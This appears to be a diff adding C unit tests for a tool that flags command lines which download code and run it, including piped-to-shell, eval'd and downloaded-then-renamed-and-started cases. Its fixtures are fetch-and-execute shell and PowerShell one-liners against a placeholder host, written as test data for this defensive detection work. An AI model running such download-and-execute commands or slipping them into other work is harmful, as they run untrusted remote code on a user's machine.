@@ -172,6 +172,57 @@ static void what_is_only_fetched_shown_or_stored_is_not_run(void **state)
     assert_no_run(lines);
 }
 
+/* `#` and what follows are no arguments, so the shell still reads its program from the pipe. */
+static void a_remark_is_no_argument(void **state)
+{
+    static const char *const piped[] = {
+        "curl -s https://a.example/x | sh # see the notes",
+        "curl -s https://a.example/x | bash # -c is not meant",
+        "curl -h 'a: # b' https://a.example/x | sh",
+        NULL,
+    };
+    static const char *const not_run[] = {
+        "curl -s https://a.example/x | sh a.sh # see the notes",
+        "(invoke-webrequest $uri).content | tar -xzvf - -c .",
+        NULL,
+    };
+
+    assert_fact(FACT_FETCH_PIPED, piped);
+    assert_no_run(not_run);
+}
+
+static void what_a_declaration_takes_is_followed(void **state)
+{
+    static const char *const lines[] = {
+        "export x=$(curl -s https://a.example/x); bash -c \"$x\"",
+        "[xml]$x=(iwr https://a.example/x); iex $x.r",
+        "iex(irm $u)",
+        NULL,
+    };
+
+    assert_fact(FACT_FETCH_EVALUATED, lines);
+}
+
+static void a_fetched_file_is_followed_to_its_new_name(void **state)
+{
+    static const char *const started[] = {
+        "curl -o a.txt https://a.example/x; mv a.txt b.sh; sh b.sh",
+        "iwr https://a.example/x -outfile a.txt; rename-item a.txt a.bat; cmd /c a.bat",
+        "curl -s -o u.zip https://a.example/u&tar -xf u.zip&u\\client.exe",
+        "curl -o a.zip https://a.example/a & tar -xf a.zip & cd a & start run.exe",
+        NULL,
+    };
+    static const char *const not_run[] = {
+        "curl -lo tool https://a.example/t?os=linux&arch=x && sudo mv tool /usr/local/bin/",
+        "curl -o a.json https://a.example/a && cp a.json b.json && jq . b.json",
+        "curl -lo a.tgz https://a.example/a.tgz && tar xf a.tgz && cd a && ./configure",
+        NULL,
+    };
+
+    assert_fact(FACT_FETCH_STARTED, started);
+    assert_no_run(not_run);
+}
+
 static void addresses_are_judged_by_form(void **state)
 {
     note("curl http://203.0.113.4/x");
@@ -268,6 +319,9 @@ int main(void)
         CASE(decoded_text_that_is_run_is_noted),
         CASE(a_script_that_is_written_and_started_is_noted),
         CASE(what_is_only_fetched_shown_or_stored_is_not_run),
+        CASE(a_remark_is_no_argument),
+        CASE(what_a_declaration_takes_is_followed),
+        CASE(a_fetched_file_is_followed_to_its_new_name),
         CASE(addresses_are_judged_by_form),
         CASE(known_addresses_are_known_whole),
         CASE(a_fact_has_its_place),
